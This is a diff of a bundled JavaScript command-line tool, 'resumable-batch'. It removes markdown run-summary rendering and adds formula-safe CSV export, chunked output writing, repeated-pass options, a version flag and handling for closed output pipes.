-    lines.push(`${formatCount(total)} failed ${total === 1 ? "item" : "items"} in ${formatCount(groups.length)} ${groups.length === 1 ? "cause" : "causes"} (numbers, ids and quoted values folded).`, "");
-    lines.push("| Cause | Count | Kind | Example ids | First seen | Last seen |");
-    lines.push("| --- | ---: | --- | --- | --- | --- |");
-    for (const g of groups.slice(0, maxGroups)) {
-        lines.push(`| ${markdownCode(g.cause, 200)} | ${formatCount(g.count)} (${formatPercent(g.count, total)}) | ${markdownText(g.kind, 20)} | ${g.exampleIds.map((id) => markdownCode(id, MAX_ID_CHARS)).join(", ") || "–"} | ${markdownText(formatTimestamp(g.firstFailedAt), 40)} | ${markdownText(formatTimestamp(g.lastFailedAt), 40)} |`);
-    }
-    if (groups.length > maxGroups) {
-        const rest = groups.slice(maxGroups);
-        const restCount = rest.reduce((sum, g) => sum + g.count, 0);
-        lines.push("", `…and ${formatCount(rest.length)} more ${rest.length === 1 ? "cause" : "causes"} (${formatCount(restCount)} ${restCount === 1 ? "item" : "items"}) in \`failures.json\`.`);
-    }
-    const shown = failures.slice(0, maxItems);
-    lines.push("", `${h} Failed items`, "");
-    if (shown.length > 0) {
-        lines.push(shown.length < total ? `The first ${formatCount(shown.length)} of ${formatCount(total)}:` : `All ${formatCount(total)}:`, "");
-        // Merged shards: say which shard recorded each failure.
-        const sharded = shown.some((f) => f.shard !== undefined);
-        lines.push(`| Id |${sharded ? " Shard |" : ""} Kind | Attempts | Error | Last failed |`);
-        lines.push(`| --- |${sharded ? " --- |" : ""} --- | ---: | --- | --- |`);
-        for (const f of shown) {
-            const shard = sharded ? ` ${f.shard === undefined ? "–" : markdownText(String(f.shard), 20)} |` : "";
-            lines.push(`| ${markdownCode(String(f.id), MAX_ID_CHARS)} |${shard} ${markdownText(String(f.kind), 20)} | ${formatCount(Number(f.attempts) || 0)} | ${markdownCode(String(f.error ?? ""), MAX_ERROR_CHARS)} | ${markdownText(formatTimestamp(f.lastFailedAt), 40)} |`);
-        }
-    }
-    const more = total - shown.length;
-    if (more > 0)
-        lines.push("", `${formatCount(more)} more in \`failures.json\`.`);
-    return lines.join("\n") + "\n";
-}
-// ---------------------------------------------------------------------------------------
-// Run summary
-function progressBar(part, whole, width = 20) {
-    const filled = whole > 0 ? Math.min(width, Math.max(0, Math.round((width * part) / whole))) : 0;
-    return "█".repeat(filled) + "░".repeat(width - filled);
-}
-function runDuration(run) {
-    if (!run.endedAt)
-        return "–";
-    const ms = Date.parse(run.endedAt) - Date.parse(run.startedAt);
-    return Number.isFinite(ms) ? formatDuration(ms) : "–";
-}
-function renderRunsTable(runs) {
-    if (runs.length === 0)
-        return ["No earlier runs recorded."];
-    // Cumulative done counts every recorded run, also the ones not shown.
-    const cumulative = [];
-    let sum = 0;
-    for (const run of runs) {
-        sum += Number(run.succeeded) || 0;
-        cumulative.push(sum);
-    }
-    const from = Math.max(0, runs.length - MAX_RUNS_SHOWN);
-    const lines = [
-        "| # | Run | Mode | Started | Duration | Succeeded | Failed | Done so far | Stopped |",
-        "| ---: | --- | --- | --- | ---: | ---: | ---: | ---: | --- |",
-    ];
-    for (let i = runs.length - 1; i >= from; i--) {
-        const run = runs[i];
-        const runLabel = run.runId === "local" ? "local" : `${run.runId}${run.runAttempt > 1 ? ` (attempt ${run.runAttempt})` : ""}`;
-        lines.push(`| ${formatCount(run.seq)} | ${markdownText(runLabel, 60)} | ${markdownText(run.mode, 20)} | ${markdownText(formatTimestamp(run.startedAt), 40)} | ${runDuration(run)} | ${formatCount(run.succeeded)} | ${formatCount(run.failed)} | ${formatCount(cumulative[i])} | ${run.stopReason ? markdownText(run.stopReason, 20) : "–"} |`);
-    }
-    if (from > 0)
-        lines.push("", `…and ${formatCount(from)} earlier ${from === 1 ? "run" : "runs"}.`);
-    return lines;
-}
-function renderSummary(input, maxItems, maxGroups) {
-    const { thisRun, totals } = input;
-    const lines = [];
-    lines.push(`## ${markdownText(input.title || "resumable-batch", 200)}`, "");
-    if (input.freshStartWarning) {
-        lines.push("> [!CAUTION]", "> **Fresh start: earlier state could not be restored.** Work already done may be repeated.", `> ${markdownText(input.freshStartWarning)}`, "");
-    }
-    const status = describeStopReason(thisRun.stopReason, totals.remaining);
-    lines.push(`**${markdownText(status, 300)}**`, "");
-    lines.push("| | Processed | Succeeded | Failed | Duration |");
-    lines.push("| --- | ---: | ---: | ---: | ---: |");
-    lines.push(`| This run | ${formatCount(thisRun.processed)} | ${formatCount(thisRun.succeeded)} | ${formatCount(thisRun.failed)} | ${formatDuration(thisRun.durationMs)} |`);
-    lines.push("");
-    lines.push("| Overall | Total | Done | Failed | Remaining | Progress |");
-    lines.push("| --- | ---: | ---: | ---: | ---: | --- |");
-    lines.push(`| All runs | ${formatCount(totals.total)} | ${formatCount(totals.done)} | ${formatCount(totals.failed)} | ${formatCount(totals.remaining)} | \`${progressBar(totals.done, totals.total)}\` ${formatPercent(totals.done, totals.total)} |`);
-    lines.push("");
-    if (input.afterTotals)
-        lines.push(input.afterTotals.trimEnd(), "");
-    const source = describeStateSource(input.stateSource);
-    const detail = input.stateSourceDetail ? ` (${markdownText(input.stateSourceDetail, 500)})` : "";
-    lines.push(`${markdownText(source, 200)}${detail}`, "");
-    lines.push("### Progress across runs", "");
-    lines.push(...renderRunsTable(input.runs), "");
-    lines.push(renderFailuresMarkdown(input.failures, { maxItems, maxGroups, headingLevel: 3 }).trimEnd(), "");
-    if (input.retryHint && input.failures.length > 0) {
-        lines.push("### Retrying failures", "");
-        lines.push(truncateText(input.retryHint.replace(/\r\n?/g, "\n"), MAX_NOTE_CHARS), "");
-    }
-    return lines.join("\n");
-}
-function byteLength(text) {
-    return Buffer.byteLength(text, "utf8");
-}
-/**
- * The run summary as markdown, for the GitHub job summary and the artifact's `summary.md`:
- * this run's counts and the overall ones, progress across the last runs, where state came
- * from (a warning block for a fresh start), the failure causes and first failed items, and
- * the retry hint.
- *
- * Always under `MAX_SUMMARY_BYTES` (GitHub refuses job summaries over 1 MiB): when the full
- * text is too large, fewer failed items and groups are listed, and as a last resort the
- * text is cut at a line boundary with a note.
- */
-function renderRunSummaryMarkdown(input) {
-    let maxItems = DEFAULT_MAX_ITEMS;
-    let maxGroups = DEFAULT_MAX_GROUPS;
-    let text = renderSummary(input, maxItems, maxGroups);
-    while (byteLength(text) > MAX_SUMMARY_BYTES && (maxItems > 0 || maxGroups > 1)) {
-        maxItems = Math.floor(maxItems / 2);
-        maxGroups = Math.max(1, Math.floor(maxGroups / 2));
-        text = renderSummary(input, maxItems, maxGroups);
-    }
-    return capMarkdownBytes(text, MAX_SUMMARY_BYTES);
-}
-/**
- * `text` unchanged when it fits in `maxBytes` of UTF-8; otherwise cut at a line boundary
- * (never inside a character) with a note saying so, the whole under `maxBytes`.
- */
-function capMarkdownBytes(text, maxBytes = MAX_SUMMARY_BYTES) {
-    if (byteLength(text) <= maxBytes)
-        return text;
-    const note = "\n\n> [!NOTE]\n> This summary was cut to stay under GitHub's 1 MiB job summary limit; every failure is in `failures.json` in the run's artifact.\n";
-    const budget = Math.max(0, maxBytes - byteLength(note));
-    let cut = Buffer.from(text, "utf8").subarray(0, budget).toString("utf8");
-    // A cut inside a multi-byte character decodes to U+FFFD; drop it.
-    cut = cut.replace(/\uFFFD$/, "");
-    const lastNewline = cut.lastIndexOf("\n");
-    if (lastNewline > 0)
-        cut = cut.slice(0, lastNewline);
-    return cut + note;
+/** CSV with a header row (csv-stringify quotes commas, quotes and newlines), every cell formula-safe. */
+function formulaSafeCsv(columns, rows) {
+    return stringify(rows.map((row) => row.map(formulaSafeCell)), { header: true, columns });
 }
 
 ;// CONCATENATED MODULE: ./src/cli/failures-command.ts
@@ -6956,20 +8590,33 @@ function capMarkdownBytes(text, maxBytes = MAX_SUMMARY_BYTES) {
 const FAILURE_FORMATS = ["json", "csv", "markdown"];
 /** `resumable-batch failures`: the failed items, regenerated from state. */
 function failuresCommand(stateDir, format, io) {
-    const { state } = loadState(stateDir);
+    const { state } = requireState(stateDir);
     const file = buildFailuresFile(state);
     switch (format) {
         case "json":
-            io.stdout.write(JSON.stringify(file, null, 2) + "\n");
+            writeInPieces(io, (write) => writeFailuresJson(file, write));
             break;
         case "csv":
-            io.stdout.write(stringify(file.failures.map((f) => [f.id, f.kind, f.attempts, f.firstFailedAt, f.lastFailedAt, f.error, JSON.stringify(f.item)]), { header: true, columns: ["id", "kind", "attempts", "firstFailedAt", "lastFailedAt", "error", "item"] }));
+            io.stdout.write(formulaSafeCsv(["id", "kind", "attempts", "firstFailedAt", "lastFailedAt", "error", "item"], file.failures.map((f) => [f.id, f.kind, f.attempts, f.firstFailedAt, f.lastFailedAt, f.error, JSON.stringify(f.item)])));
             break;
         case "markdown":
             io.stdout.write(file.failures.length === 0 ? "No failed items.\n" : renderFailuresMarkdown(file.failures) + "\n");
             break;
     }
     return 0;
+}
+/** Writes to stdout in pieces of about 1 MiB: the whole text may be larger than one string. */
+function writeInPieces(io, produce) {
+    let buffer = "";
+    produce((text) => {
+        buffer += text;
+        if (buffer.length >= 1 << 20) {
+            io.stdout.write(buffer);
+            buffer = "";
+        }
+    });
+    if (buffer.length > 0)
+        io.stdout.write(buffer);
 }
 
 ;// CONCATENATED MODULE: ./src/cli/progress-display.ts
@@ -7064,7 +8711,7 @@ function processStopSource() {
 
 /** `resumable-batch status`: what a state folder holds, read without taking its lock. */
 function statusCommand(stateDir, asJson, io) {
-    const { state, warnings } = loadState(stateDir);
+    const { state, warnings } = requireState(stateDir);
     const byKind = {};
     for (const f of state.failures.values())
         byKind[f.kind] = (byKind[f.kind] ?? 0) + 1;
@@ -7080,6 +8727,11 @@ function statusCommand(stateDir, asJson, io) {
         runs: state.runs.length,
         seq: state.origin.seq,
         lastRun,
+        pass: state.pass,
+        passStartedAt: state.passStartedAt,
+        passCompletedAt: state.passCompletedAt,
+        nextPassAfter: nextPassAfter(state, state.repeatMs),
+        passes: passHistory(state),
     };
     for (const w of warnings)
         io.stderr.write(`warning: ${w}\n`);
@@ -7094,12 +8746,20 @@ function statusCommand(stateDir, asJson, io) {
     const kinds = Object.entries(byKind).map(([k, n]) => `${n} ${k}`).join(", ");
     io.stdout.write([
         `state:     ${stateDir} (${state.runs.length} run(s), state #${state.origin.seq})`,
-        `done:      ${state.doneCount}${status.total !== undefined ? ` of ${status.total}` : ""}`,
+        `pass:      ${describePassState(state, state.repeatMs, Date.now())}`,
+        `done:      ${state.doneCount}${status.total !== undefined ? ` of ${status.total}` : ""}${state.pass > 1 ? ` in pass ${state.pass}` : ""}`,
         `failed:    ${state.failures.size}${kinds ? ` (${kinds})` : ""}`,
         status.remaining !== undefined ? `left:      ${status.remaining} (as of the last run)` : undefined,
+        state.passes.length > 0 ? `passes:    ${state.passes.slice(-5).map(describePass).join("\n           ")}` : undefined,
         lastRun ? `last run:  ${lastRun.mode} ${lastRun.startedAt} — ${lastRun.succeeded} succeeded, ${lastRun.failed} failed, ${lastRun.stopReason ?? "did not stop cleanly"}` : undefined,
     ].filter(Boolean).join("\n") + "\n");
     return 0;
+}
+/** One finished pass for the status text. */
+function describePass(p) {
+    const tookMs = p.startedAt && p.completedAt ? Date.parse(p.completedAt) - Date.parse(p.startedAt) : undefined;
+    return `pass ${p.pass}: ${p.succeeded} succeeded, ${p.failed} failed, ${p.runs} run(s), started ${p.startedAt ?? "?"}, ` +
+        (p.completedAt ? `complete after ${formatDurationMs(tookMs)}` : "not complete when the next pass started");
 }
 
 ;// CONCATENATED MODULE: ./src/report/summary-input.ts
@@ -7734,7 +9394,7 @@ function reportCommand(o, io) {
     if (o.from && o.from.length > 0) {
         if (!o.out)
             throw new ConfigError("--from needs --out: the folder for the merged report");
-        const shards = o.from.map((dir, i) => ({ label: `${i + 1}/${o.from.length}`, state: loadState((0,external_node_path_.resolve)(io.cwd, dir)).state }));
+        const shards = o.from.map((dir, i) => ({ label: `${i + 1}/${o.from.length}`, state: requireState((0,external_node_path_.resolve)(io.cwd, dir)).state }));
         const merged = mergeShardStates(shards);
         const outDir = (0,external_node_path_.resolve)(io.cwd, o.out);
         const input = summaryInputFromState(merged, undefined, { title: `resumable-batch — ${shards.length} shards` });
@@ -7742,14 +9402,24 @@ function reportCommand(o, io) {
         io.stdout.write(`merged ${shards.length} shard(s): ${merged.done.size} done, ${merged.failures.size} failed; wrote ${outDir}/failures.json, summary.md, ${REPORT_FILE}\n`);
         return 0;
     }
-    const { state } = loadState(o.stateDir);
+    const { state } = requireState(o.stateDir);
     const htmlPath = typeof o.html === "string" ? (0,external_node_path_.resolve)(io.cwd, o.html) : (0,external_node_path_.resolve)(o.stateDir, REPORT_FILE);
     writeReports(o.stateDir, state, summaryInputFromState(state, undefined, { stateSource: "local" }), now, htmlPath);
     io.stdout.write(`wrote ${htmlPath} and ${o.stateDir}/summary.md\n`);
     return 0;
 }
 
+;// CONCATENATED MODULE: ./package.json
+const package_namespaceObject = {"rE":"0.1.0"};
+;// CONCATENATED MODULE: ./src/cli/version.ts
+// The package's own version, bundled into dist/cli at build time (ncc inlines the JSON), so
+// `resumable-batch --version` is right wherever the bundle is run from: an npm install, npx,
+// or a checkout.
+
+const VERSION = package_namespaceObject.rE;
+
 ;// CONCATENATED MODULE: ./src/cli/main.ts
+
 
 
 
@@ -7765,6 +9435,7 @@ async function main(argv, io) {
     let exitCode = 0;
     const program = new Command("resumable-batch")
         .description("Work through a long list of items; resume where the last run stopped.")
+        .version(VERSION, "-V, --version", "print the version")
         .exitOverride()
         .configureOutput({ writeOut: (s) => io.stdout.write(s), writeErr: (s) => io.stderr.write(s) })
         .showHelpAfterError("(run with --help for usage)");
@@ -7793,6 +9464,10 @@ async function main(argv, io) {
         .addOption(flag("rate-limit", "rate", "most item starts per unit, like 20/s or 600/m"))
         .addOption(flag("shard", "i/n", "process only the items whose id hashes to shard i of n"))
         .option("--retry-failures", "re-attempt only the items in failures.json")
+        .addOption(flag("repeat", "duration", "start a new pass over every item once the current one is complete and this long has passed since it started, like 1d"))
+        .option("--new-pass", "start the next pass now: every item is processed again")
+        .option("--reprocess-changed", "process an item again when its content changed since it was done")
+        .addOption(flag("version-field", "name", "with --reprocess-changed: compare this field (updatedAt, an etag) instead of the whole item"))
         .action(async (opts) => {
         exitCode = await main_runCommand(opts, io);
     });
@@ -7887,6 +9562,8 @@ function shellQuote(arg) {
 function summaryLine(r, stateDir, hint) {
     const command = (...args) => ["resumable-batch", ...args].map(shellQuote).join(" ");
     const lines = [describeRunResult(r)];
+    if (r.mode === "run" && (r.pass > 1 || r.nextPassAfter !== undefined || r.passStarted !== undefined))
+        lines.push(r.passNote);
     if (r.stopReason === "budget")
         lines.push("stopped: the time budget ran low. Run again to resume (exit 3).");
     if (r.stopReason === "signal")
@@ -7898,6 +9575,47 @@ function summaryLine(r, stateDir, hint) {
             `re-attempt them with \`${command("run", "--retry-failures", ...hint.handlerArgs, ...hint.stateDirArgs)}\``);
     }
     return lines.join("\n");
+}
+
+
+/***/ }),
+
+/***/ 396:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   c: () => (/* binding */ ignoreGoneReaders)
+/* harmony export */ });
+/* unused harmony export isGoneReaderError */
+/**
+ * Error codes that mean "nobody reads this output any more": the reader of a pipe exited
+ * (`… | head -1`, or `| tee log` killed by the same Ctrl-C), the descriptor was closed, or
+ * the terminal went away. Writing a log line must never end a run over them.
+ */
+const GONE_READER_CODES = new Set(["EPIPE", "EBADF", "EIO", "ECONNRESET", "ERR_STREAM_DESTROYED", "ERR_STREAM_WRITE_AFTER_END"]);
+/** Whether an error on an output stream only says that its reader is gone. */
+function isGoneReaderError(error) {
+    return GONE_READER_CODES.has(error?.code ?? "");
+}
+/**
+ * Keeps this process running when its standard output or error has no reader. Without a
+ * listener, Node turns the stream's EPIPE into an uncaught exception: the run died with
+ * exit 1 in the middle of its graceful stop, its lock left behind and its finished items
+ * not recorded. With it, later writes are dropped (the stream is destroyed) and the run
+ * finishes as if the output had been read. Other errors still end the process as before.
+ * Returns a function that removes the listeners.
+ */
+function ignoreGoneReaders(streams = [process.stdout, process.stderr]) {
+    const onError = (error) => {
+        if (!isGoneReaderError(error))
+            throw error;
+    };
+    for (const stream of streams)
+        stream.on("error", onError);
+    return () => {
+        for (const stream of streams)
+            stream.off("error", onError);
+    };
 }
 
 
